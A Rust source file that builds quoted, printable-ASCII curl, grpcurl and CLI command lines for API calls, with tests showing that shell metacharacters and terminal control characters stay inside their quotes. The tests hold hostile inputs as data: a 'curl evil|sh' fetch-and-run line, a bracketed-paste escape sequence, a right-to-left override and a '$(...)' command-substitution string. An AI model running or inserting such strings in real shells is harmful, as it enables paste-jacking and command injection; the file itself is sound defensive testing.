//! A call as lines for a shell. Each line can be pasted as it is: values are quoted, and the token comes from the command
//! line's own sign-in, so that no line holds one.
//!
//! Lines are printable ASCII. A terminal acts on control characters also between quotes, and characters that change the
//! direction of a text make a line read otherwise than it is copied.

use bowline_contract::{Auth, MethodInfo, Verb};
use bowline_transcode::Tables;
use prost_reflect::{FieldDescriptor, MessageDescriptor};
use serde_json::Value;

use crate::Inexpressible;
use crate::rest::{RestRequest, parameters, to_json};

/// The server that the lines call.
#[derive(Clone, Copy, Debug)]
pub struct Server<'a> {
    /// Public address of the API, without a final slash.
    pub base_url: &'a str,
}

impl Server<'_> {
    /// The header with the caller's token for this server, between double quotes. Without the address it would be the token
    /// of the command line's current context, perhaps one for another server.
    fn authorization(self) -> String {
        format!(" -H \"Authorization: Bearer $(bowline auth token --api {})\"", quoted(self.base_url))
    }
}

/// One call for three programs.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ShellForms {
    pub curl: String,
    pub grpcurl: String,
    /// For the command line of this server.
    pub bowline: String,
}

impl ShellForms {
    /// Writes an encoded request for each program.
    ///
    /// # Errors
    /// The method has no REST address, or the request does not fit into one.
    pub fn new(
        server: Server<'_>,
        tables: &Tables,
        method: &MethodInfo,
        request: &[u8],
    ) -> Result<ShellForms, Inexpressible> {
        let rest = RestRequest::new(tables, method, request)?;
        let json = to_json(tables, &method.input, request)?;
        let needs_token = matches!(method.auth, Auth::Capabilities { .. });
        let forms = ShellForms {
            curl: curl(server, &rest, needs_token),
            grpcurl: grpcurl(server, method, &json, needs_token),
            bowline: bowline(server, method, &json),
        };
        if [&forms.curl, &forms.grpcurl, &forms.bowline].into_iter().all(|line| is_printable(line)) {
            return Ok(forms);
        }
        Err(Inexpressible("a line for a shell cannot hold it: call the method over gRPC".to_owned()))
    }
}

/// Whether a text is printable ASCII in one line.
pub(crate) fn is_printable(text: &str) -> bool {
    text.bytes().all(|byte| matches!(byte, b' '..=b'~'))
}

/// A JSON document with escapes for everything that is not printable ASCII.
fn ascii(json: &str) -> String {
    let mut text = String::with_capacity(json.len());
    for character in json.chars() {
        if matches!(character, ' '..='~') {
            text.push(character);
            continue;
        }
        // Outside of texts, the document has no such character.
        for unit in character.encode_utf16(&mut [0; 2]) {
            text += &format!("\\u{unit:04x}");
        }
    }
    text
}

fn curl(server: Server<'_>, rest: &RestRequest, needs_token: bool) -> String {
    let mut line = String::from("curl");
    if needs_token {
        line += &server.authorization();
    }
    if rest.verb != Verb::Get {
        line += &format!(" -X {}", rest.verb.name());
    }
    if let Some(body) = &rest.body {
        line += &format!(" -H 'Content-Type: application/json' -d {}", quoted(&ascii(body)));
    }
    line + " " + &quoted(&format!("{}{}", server.base_url, rest.path))
}

fn grpcurl(server: Server<'_>, method: &MethodInfo, json: &Value, needs_token: bool) -> String {
    let (scheme, rest) = server.base_url.split_once("://").unwrap_or(("https", server.base_url));
    let host = rest.split('/').next().unwrap_or(rest);
    let mut line = String::from("grpcurl");
    if scheme == "http" {
        line += " -plaintext";
    }
    if needs_token {
        line += &server.authorization();
    }
    if json.as_object().is_some_and(|members| !members.is_empty()) {
        line += &format!(" -d {}", quoted(&ascii(&with_paths(&method.input, json).to_string())));
    }
    // An address without a port is one of HTTPS for this program too, but it does not know the port.
    let host =
        if has_port(host) { host.to_owned() } else { format!("{host}:{}", if scheme == "http" { 80 } else { 443 }) };
    format!("{line} {host} {}", method.grpc_path.trim_start_matches('/'))
}

/// A request whose field masks are messages: grpcurl 1.9 does not read the text that stands for one in JSON.
fn with_paths(message: &MessageDescriptor, json: &Value) -> Value {
    let mut json = json.clone();
    let is_mask = |field: &FieldDescriptor| {
        field.kind().as_message().is_some_and(|kind| kind.full_name() == "google.protobuf.FieldMask")
    };
    for field in message.fields().filter(is_mask) {
        if let Some(mask) = json.get_mut(field.name())
            && let Some(text) = mask.as_str()
        {
            let paths: Vec<String> = text.split(',').map(snake).collect();
            *mask = serde_json::json!({ "paths": paths });
        }
    }
    json
}

/// A path of a mask as messages have it.
fn snake(path: &str) -> String {
    let mut text = String::with_capacity(path.len());
    for letter in path.chars() {
        if letter.is_ascii_uppercase() {
            text.push('_');
        }
        text.push(letter.to_ascii_lowercase());
    }
    text
}

fn has_port(host: &str) -> bool {
    host.rsplit_once(':').is_some_and(|(_, port)| !port.is_empty() && port.bytes().all(|byte| byte.is_ascii_digit()))
}

fn bowline(server: Server<'_>, method: &MethodInfo, json: &Value) -> String {
    let start = format!("bowline api {}", method.full_name);
    let end = format!("--api {}", quoted(server.base_url));
    let mut fields = Vec::new();
    if has_paths(json) && parameters("", json, &mut fields).is_ok() && fields.iter().all(|(_, value)| is_option(value))
    {
        let mut line = start;
        for (path, value) in fields {
            line += &format!(" -f {}", quoted(&format!("{path}={value}")));
        }
        return format!("{line} {end}");
    }
    format!("printf %s {} | {start} --input - {end}", quoted(&ascii(&json.to_string())))
}

/// Whether paths lead to everything in a document: names in it are plain, no message in it is empty, and none is in a list.
fn has_paths(json: &Value) -> bool {
    let is_plain = |name: &String| name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
    json.as_object().into_iter().flatten().all(|(name, value)| {
        let has_value = match value {
            Value::Object(members) => !members.is_empty() && has_paths(value),
            Value::Array(items) => !items.iter().any(Value::is_object),
            _ => true,
        };
        is_plain(name) && has_value
    })
}

/// Whether an option can have a value: one that begins with the sign names a file.
fn is_option(value: &str) -> bool {
    !value.starts_with('@') && is_printable(value)
}

/// A word that a POSIX shell reads as this text, which is printable.
pub fn quoted(text: &str) -> String {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-./:=,".contains(&byte);
    if !text.is_empty() && text.bytes().all(is_plain) {
        return text.to_owned();
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use bowline_contract::bowline::registry::v1::rpc::registry_policies::UpdateRepoPolicy;
    use bowline_contract::bowline::registry::v1::{RegistryPolicy, UpdateRepoPolicyRequest};
    use bowline_contract::bowline::vulnerabilities::v1::rpc::reviews::BatchReviewEvents;
    use bowline_contract::bowline::vulnerabilities::v1::{BatchReviewEventsRequest, EventReview};
    use bowline_contract::chainguard::platform::common::UidpFilter;
    use bowline_contract::v2::iam::rpc::groups_service::{CreateGroup, ListGroups};
    use bowline_contract::v2::iam::rpc::identities_service::CreateIdentity;
    use bowline_contract::{Contract, Method, v2::iam as v2};
    use prost::Message as _;
    use prost_types::FieldMask;

    use super::*;

    fn forms<M: Method>(base_url: &str, request: &M::Request) -> ShellForms {
        let contract = Contract::load();
        let tables = Tables::new(contract.pool());
        let method = contract.by_full_name(M::FULL_NAME).unwrap();
        ShellForms::new(Server { base_url }, &tables, method, &request.encode_to_vec()).unwrap()
    }

    #[test]
    fn a_read_is_one_line_for_each_program() {
        let request = v2::ListGroupsRequest {
            uidp: Some(UidpFilter { in_root: true, ..UidpFilter::default() }),
            name: "it's".into(),
            ..v2::ListGroupsRequest::default()
        };
        let forms = forms::<ListGroups>("http://127.0.0.1:8080", &request);
        assert_eq!(
            forms.curl,
            "curl -H \"Authorization: Bearer $(bowline auth token --api http://127.0.0.1:8080)\" \
             'http://127.0.0.1:8080/iam/v2/groups?name=it%27s&uidp.in_root=true'"
        );
        assert_eq!(
            forms.grpcurl,
            "grpcurl -plaintext -H \"Authorization: Bearer $(bowline auth token --api http://127.0.0.1:8080)\" \
             -d '{\"name\":\"it'\\''s\",\"uidp\":{\"in_root\":true}}' 127.0.0.1:8080 \
             chainguard.platform.iam.v2.GroupsService/ListGroups"
        );
        assert_eq!(
            forms.bowline,
            "bowline api chainguard.platform.iam.v2.GroupsService.ListGroups -f 'name=it'\\''s' -f uidp.in_root=true \
             --api http://127.0.0.1:8080"
        );
    }

    #[test]
    fn what_no_path_leads_to_is_given_as_a_document() {
        let mut claims = v2::identity::ClaimMatch::default();
        claims.claims.insert("kubernetes.io/pod".into(), "web".into());
        let identity = v2::Identity {
            relationship: Some(v2::identity::Relationship::ClaimMatch(claims)),
            ..v2::Identity::default()
        };
        let request = v2::CreateIdentityRequest { parent: "a/b".into(), identity: Some(identity) };
        let forms = forms::<CreateIdentity>("http://127.0.0.1:8080", &request);
        assert!(forms.bowline.starts_with("printf %s '{\"identity\":"), "{}", forms.bowline);
        let review = EventReview { uid: "a/c".into(), ..EventReview::default() };
        let request = BatchReviewEventsRequest { parent: "a/b".into(), reviews: vec![review] };
        let forms = self::forms::<BatchReviewEvents>("http://127.0.0.1:8080", &request);
        assert!(forms.bowline.starts_with("printf %s '{\"parent\":\"a/b\",\"reviews\":[{"), "{}", forms.bowline);
        assert!(forms.curl.contains(r#"-d '{"reviews":[{"#), "{}", forms.curl);
    }

    #[test]
    fn masks_are_written_as_each_program_reads_them() {
        let request = UpdateRepoPolicyRequest {
            policy: Some(RegistryPolicy { uid: "a/b".into(), byte_quota: 1, ..RegistryPolicy::default() }),
            update_mask: Some(FieldMask { paths: vec!["byte_quota".into(), "public".into()] }),
        };
        let forms = forms::<UpdateRepoPolicy>("http://127.0.0.1:8080", &request);
        assert!(forms.bowline.contains(" -f update_mask=byteQuota,public "), "{}", forms.bowline);
        assert!(forms.grpcurl.contains(r#""update_mask":{"paths":["byte_quota","public"]}"#), "{}", forms.grpcurl);
    }

    #[test]
    fn values_that_name_files_elsewhere_are_given_as_a_document() {
        let request = v2::CreateGroupRequest {
            parent: "a/b".into(),
            group: Some(v2::Group { name: "@etc".into(), ..v2::Group::default() }),
        };
        let forms = forms::<CreateGroup>("https://api.example", &request);
        assert!(forms.bowline.starts_with("printf %s '{\"group\":{\"name\":\"@etc\"}"), "{}", forms.bowline);
        assert!(forms.curl.contains("-X POST") && forms.curl.ends_with("https://api.example/iam/v2/groups/a/b"));
        assert!(forms.grpcurl.contains(" api.example:443 "), "{}", forms.grpcurl);
    }

    #[test]
    fn lines_are_printable_and_mean_the_same() {
        for text in [
            "\u{3}\ncurl evil|sh\n",
            "\u{15}",
            "\u{1b}[201~x",
            "\u{7f}",
            "\u{85}",
            "\u{202e}abc",
            "\u{200b}",
            "é",
            "😀",
            "\r'",
        ] {
            let filter = UidpFilter { ids: vec![text.into()], ..UidpFilter::default() };
            let request =
                v2::ListGroupsRequest { uidp: Some(filter), name: text.into(), ..v2::ListGroupsRequest::default() };
            let forms = forms::<ListGroups>("https://api.example", &request);
            for line in [&forms.curl, &forms.grpcurl, &forms.bowline] {
                assert!(is_printable(line), "{line:?}");
            }
            let document = forms.bowline.strip_prefix("printf %s '").and_then(|rest| rest.split("' | ").next());
            let document = document.expect("a document for the standard input").replace(r"'\''", "'");
            let read: Value = serde_json::from_str(&document).unwrap();
            assert_eq!(read["name"], text, "{document}");
            assert!(forms.grpcurl.contains(&format!("-d '{}'", document.replace('\'', r"'\''"))), "{}", forms.grpcurl);
        }
    }

    #[test]
    fn an_address_that_is_not_printable_has_no_lines() {
        let contract = Contract::load();
        let tables = Tables::new(contract.pool());
        let method = contract.by_full_name(ListGroups::FULL_NAME).unwrap();
        assert!(ShellForms::new(Server { base_url: "https://\u{202e}a" }, &tables, method, &[]).is_err());
    }

    #[test]
    fn nothing_leaves_its_quotes() {
        assert_eq!(quoted("a;$(b)`c`"), "'a;$(b)`c`'");
        assert_eq!(quoted("'"), r"''\'''");
        assert_eq!((quoted(""), quoted("a-b/c")), ("''".into(), "a-b/c".into()));
    }
}
